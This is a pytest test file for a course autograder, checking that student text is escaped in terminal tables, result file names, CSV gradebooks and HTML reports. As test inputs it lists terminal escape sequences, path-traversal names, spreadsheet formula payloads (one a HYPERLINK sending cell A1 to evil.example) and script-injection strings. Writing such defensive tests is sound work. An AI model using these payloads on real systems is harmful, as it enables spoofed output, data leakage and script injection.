"""Outputs are inert: student text reaching a TA's terminal cannot move the cursor, retitle the
window, forge our "Score:" line or crash rich; results file names are unique per submission and stay
in their folder; gradebook cells never start a spreadsheet formula; report.html cannot be injected."""
from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote, unquote

import pytest
from rich.console import Console
from rich.text import Text

from autograder.course.batch import write_gradebook
from autograder.text import csv_cell
from autograder.course.outputs import markup_text, print_table, results_name
from autograder.text import terminal_text
from autograder.results import Isolation, ManualAnswer, SubmissionResult
from autograder.results import TestReport as Report

# Every way a string can act on a terminal rather than be shown by it.
RAW_CONTROLS = ["\x1b[2J", "\x1b]0;pwned\x07", "\x1b]8;;http://evil\x1b\\", "\rScore: 33 / 33", "ab\x08\x08XY",
                "\x9b2J", "\x07", "\x7f", "\x00", "\x85", "\u202eevil", "\u2066x\u2069", "\u2028", "\ud800"]
# Control characters, DEL, C1, bidi controls, line separators, lone surrogates.
FORBIDDEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e"
                       "\u2066-\u2069\ud800-\udfff]")
MARKUP = ["[/]", "[bold", "[bold red]x", "[link=javascript:alert(1)]click[/link]", "\\[/]", "ends with \\",
          "[/bold]", "[@click=app.quit]x[/]", ":smile: [#ff0000]red"]


@pytest.mark.parametrize("raw", RAW_CONTROLS)
def test_terminal_text_shows_controls_instead_of_obeying_them(raw):
    for newlines in (False, True):
        out = terminal_text(raw, newlines=newlines)
        assert not FORBIDDEN.search(out), repr(out)
        assert "\n" not in out
        out.encode("utf-8")  # a lone surrogate would raise here, as it would on stdout
    assert terminal_text("\x1b[2J") == "\\x1b[2J"
    assert terminal_text("a\rb") == "a\\x0db"


def test_terminal_text_newlines_only_where_asked_and_bounded():
    assert terminal_text("one\ntwo") == "one\\x0atwo"
    assert terminal_text("one\ntwo", newlines=True) == "one\ntwo"
    many = "\n".join(f"line {i}" for i in range(100))
    out = terminal_text(many, newlines=True, max_lines=5)
    assert out.count("\n") == 4 and out.endswith("…")
    assert len(terminal_text("x" * 10**6, limit=300)) <= 301
    assert len(terminal_text("\x1b" * 10**4, limit=300)) <= 301  # escaping cannot grow it past the limit
    assert terminal_text("plain text, ünïcode ✓") == "plain text, ünïcode ✓"


@pytest.mark.parametrize("raw", MARKUP + RAW_CONTROLS)
def test_markup_text_is_shown_literally_by_rich(raw):
    # Inside our own markup: unescaped, "[/]" raises MarkupError and a trailing "\\" eats our "[/bold]".
    rendered = Text.from_markup(f"[bold]{markup_text(raw)}[/bold]", emoji=False)
    assert rendered.plain == terminal_text(raw)
    assert [(s.start, s.end, str(s.style)) for s in rendered.spans] == [(0, len(rendered.plain), "bold")], \
        "student text must not pick up a style or a link"


def hostile_result(name: str = "=evil\x1b[2J[bold]\nScore: 33 / 33.py") -> SubmissionResult:
    forged = "\x1b[2J\x1b]0;pwned\x07\rScore: 33 / 33\n[/] [bold red]x[link=javascript:alert(1)]y\b\b"
    return SubmissionResult(
        submission=name, assignment="toy", score=1, max_score=4, seed=7, isolation=Isolation.fallback,
        tests=[Report(question="q1", name="test_attend", max_score=3, score=0, status="failed",
                          message=f"your code raised Score: 33 / 33\n{forged}", misconception="[/]\x1b[31m"),
               Report(question="q2", name="test_answer", max_score=1, score=1, status="passed",
                          message="\nq9: fake_test │ passed │ 9/9 │\nScore: 33 / 33")],
        message=f"cell 3: {forged}\n" * 3,
        manual=[ManualAnswer(question="q3\x1b[2J[/]", text="\x1b]0;x\x07" * 100)])


def render(result: SubmissionResult, width: int, terminal: bool, all_tests: bool = True) -> str:
    buf = io.StringIO()
    console = Console(file=buf, width=width, force_terminal=terminal, color_system="truecolor" if terminal else None,
                      highlight=False, emoji=False)
    print_table(result, console=console, all_tests=all_tests)
    return buf.getvalue()


@pytest.mark.parametrize("all_tests", [False, True])
@pytest.mark.parametrize("width", [40, 80, 132])
def test_print_table_is_inert_and_only_our_score_line_is_unframed(width, all_tests):
    out = render(hostile_result(), width, terminal=False, all_tests=all_tests)
    assert "\x1b" not in out and "\r" not in out and "\b" not in out and "\x07" not in out
    assert not FORBIDDEN.search(out)
    score_lines = [line for line in out.splitlines() if re.match(r"\s*Score:", line)]
    assert score_lines == [out.splitlines()[-1]] and score_lines[0].startswith("Score: 1 / 4 ")
    # Every line of student text is framed (table, panel) or follows one of our fixed prefixes.
    for line in out.splitlines()[:-1]:
        assert line[:1] in "┏┃┡│├└╭╰" or line.startswith(("submission: ", "written answer to ")), line


@pytest.mark.parametrize("all_tests", [False, True])
def test_print_table_with_colours_emits_only_our_styles(all_tests):
    out = render(hostile_result(), 100, terminal=True, all_tests=all_tests)
    for raw in ("\x1b[2J", "\x1b]", "\r", "\b", "\x07"):
        assert raw not in out
    assert "\\x1b[2J" in out and "\\x1b[31m" in out  # shown, not obeyed


def test_a_newline_in_a_message_does_not_start_a_row():
    out = render(hostile_result(), 120, terminal=False)
    fake = [line for line in out.splitlines() if "fake_test" in line]
    assert fake, out
    for line in fake:  # the forged row is drawn inside the why cell: the test and points cells are empty
        cells = [c.strip() for c in line.strip("│").split("│")]
        assert cells[0] == "" and cells[2] == "", line


def test_print_table_survives_strict_utf8_stdout():
    raw = io.BytesIO()
    stream = io.TextIOWrapper(raw, encoding="utf-8", errors="strict")
    result = hostile_result(name="lone\ud800surrogate.py")
    result.tests[0].message = "bad \udcff bytes"
    print_table(result, console=Console(file=stream, width=80, highlight=False))
    stream.flush()
    assert b"\\udcff" in raw.getvalue() and b"\\ud800" in raw.getvalue()


def test_results_json_is_shown_as_plain_text_and_valid(fixture_course):
    import json

    import jsonschema

    from autograder.course.outputs import to_gradescope
    result = hostile_result()
    result.manual[0].text = "<img src=x onerror=alert(1)> **md** \x1b[31m"
    data = to_gradescope(result, fixture_course.config.visibility)
    schema = json.loads((Path(__file__).parent / "gradescope_results.schema.json").read_text())
    jsonschema.validate(data, schema)
    assert (data["output_format"], data["test_output_format"], data["test_name_format"]) == ("text",) * 3
    assert "\\u001b[2J" in json.dumps(data)  # control characters travel JSON-escaped, as written


# --- results file names ------------------------------------------------------------------------------
NAMES = ["alice.ipynb", "alice.py", "Alice.ipynb", "ALICE.ipynb", "alice.IPYNB", "..", ".", "...", "...zip",
         "../x.ipynb", "../../etc/passwd", "a/b.ipynb", "a\\b.ipynb", "a_b.ipynb", "a?b.ipynb", "a b.ipynb",
         "x\x1b[2J.ipynb", "x\n.ipynb", "", "-rf.ipynb", ".hidden.ipynb", "con.ipynb", "nul", "COM1.py",
         "élève.ipynb", "eleve.ipynb", "x" * 300 + ".ipynb", "x" * 301 + ".ipynb", "lone\ud800.py",
         "a~b.ipynb", "%2e%2e.ipynb", "javascript:alert(1).ipynb", "=HYPERLINK().ipynb"]


def test_results_name_keeps_plain_names_readable():
    assert results_name("alice.ipynb") == "alice.ipynb.json"
    assert results_name("alice.py") == "alice.py.json"
    assert results_name("slow_0.ipynb") == "slow_0.ipynb.json"


@pytest.mark.parametrize("name", NAMES)
def test_results_name_stays_in_its_folder(name, tmp_path):
    out = results_name(name)
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._~-]*\.json", out), out
    assert len(out) <= 140
    assert quote(out) == out  # nothing to quote in a link either
    folder = tmp_path / "results"
    folder.mkdir()
    assert (folder / out).resolve().parent == folder.resolve()


def test_results_name_is_injective_even_ignoring_case():
    names = NAMES + [results_name("a?b.ipynb")[:-5], results_name("x" * 301 + ".ipynb")[:-5]]
    outs = [results_name(n) for n in names]
    assert len(set(outs)) == len(names)
    assert len({o.casefold() for o in outs}) == len(names)


# --- gradebook.csv -----------------------------------------------------------------------------------
@pytest.mark.parametrize("cell", ["=1+2", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", " =1",
                                  "\n=1", "  @x", "\uff1d1+1", "=HYPERLINK(\"http://evil\",\"x\").ipynb",
                                  # round 24: spaces and invisible characters beyond ASCII's
                                  "\u3000=1+1.ipynb", "\u2003+1", "\u200b=1", "\ufeff@x", "\u2028-1", "\u00a0\u200b =1"])
def test_csv_cell_neutralises_formulas(cell):
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["alice.ipynb", "", "no_scale;wrong_axis", "a=b.py", "graded", "x-1.py"])
def test_csv_cell_leaves_plain_text_alone(cell):
    assert csv_cell(cell) == cell


def test_gradebook_cells_of_student_text_are_inert_and_scores_numeric(tmp_path):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open me").ipynb'
    results = [SubmissionResult(submission=evil, assignment="toy", score=4, max_score=4, seed=1),
               SubmissionResult(submission="@alice.py", assignment="toy", score=0, max_score=4, seed=2,
                                tests=[Report(question="q1", name="t", max_score=1, score=0,
                                                  status="failed", misconception="-cmd")])]
    write_gradebook(results, tmp_path / "gradebook.csv")
    with open(tmp_path / "gradebook.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["submission"] for r in rows] == ["'" + evil, "'@alice.py"]
    assert rows[1]["misconceptions"] == "'-cmd"
    assert [r["score"] for r in rows] == ["4", "0"] and rows[0]["max_score"] == "4"
    for row in rows:
        for value in row.values():
            assert not value.lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))


# --- report.html -------------------------------------------------------------------------------------
class Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)


def test_report_cannot_be_injected(tmp_path, fixture_course):
    from autograder.course.report import write_report
    names = ["<script>alert(1)</script>.ipynb", "javascript:alert(1).ipynb", '" onmouseover="alert(1).ipynb',
             "x' onclick='alert(1).py", "../../../etc/passwd.ipynb", "a#b?c=1.ipynb", "good.ipynb"]
    results = [SubmissionResult(submission=n, assignment="toy", score=1, max_score=4, seed=i,
                                manual=[ManualAnswer(question="q3", text="<img src=x onerror=alert(1)>"
                                                                          "</div><script>alert(2)</script>")],
                                tests=[Report(question="q1", name="t", max_score=1, score=0, status="failed",
                                                  misconception="<b onmouseover=alert(3)>x</b>")])
               for i, n in enumerate(names)]
    html = write_report(results, fixture_course, "toy", tmp_path).read_text()
    page = Collect()
    page.feed(html)
    tags = [t for t, _ in page.tags]
    assert "script" not in tags and tags.count("img") == 2  # our two plots, not the student's
    for tag, attrs in page.tags:
        for key, _value in attrs:
            assert not key.startswith("on"), (tag, key)
    links = [dict(attrs)["href"] for tag, attrs in page.tags if tag == "a"]
    hrefs = [h for h in links if h.startswith("results/")]
    assert hrefs == [f"results/{results_name(n)}" for n in names]
    # every other link is a submission's feedback page, by the same injective, path-safe name
    from autograder.course.feedback import feedback_name
    assert {h for h in links if not h.startswith("results/")} == {f"feedback/{feedback_name(n)}" for n in names}
    for href in links:
        folder = href.split("/", 1)[0] + "/"
        assert ":" not in href and "/" not in unquote(href)[len(folder):]
    text = "".join(page.text)
    for n in names:
        assert n in text  # shown as text, verbatim
    assert "<img src=x onerror=alert(1)>" in text
    assert 'href="results/good.ipynb.json"' in html


def test_piped_output_keeps_whole_test_names(capsys):
    """Piped (not a terminal), the table is wide and no test name is cut or folded."""
    from autograder.course.outputs import print_table
    from autograder.results import SubmissionResult, TestReport
    long_name = "test_float32_4d_random_mask_with_a_name_long_enough_to_be_cut"
    result = SubmissionResult(submission="s.ipynb", assignment="a", tests=[
        TestReport(question="q5", name=long_name, max_score=1, score=0, status="failed",
                   message="the output does not match " * 8)])
    print_table(result)
    out = capsys.readouterr().out
    assert f"q5: {long_name}" in out


@pytest.mark.parametrize("readable", [True, False])
def test_an_unreadable_standard_library_is_told_to_the_instructor(readable: bool) -> None:
    """SandboxRecord.stdlib_readable False (a worker of another uid under a Python in /root): the instructors'
    entry of results.json says it is the host's problem; True says nothing of it."""
    from autograder.config import VisibilitySettings
    from autograder.course.outputs import to_gradescope
    from autograder.results import SandboxRecord
    result = SubmissionResult(submission="a.ipynb", assignment="toy", score=1, max_score=4, seed=3,
                              isolation=Isolation.fallback, sandbox=SandboxRecord(stdlib_readable=readable))
    info = next(t for t in to_gradescope(result, VisibilitySettings())["tests"] if t["tags"] == ["grader"])
    assert ("cannot read this Python's standard library" in info["output"]) is (not readable)
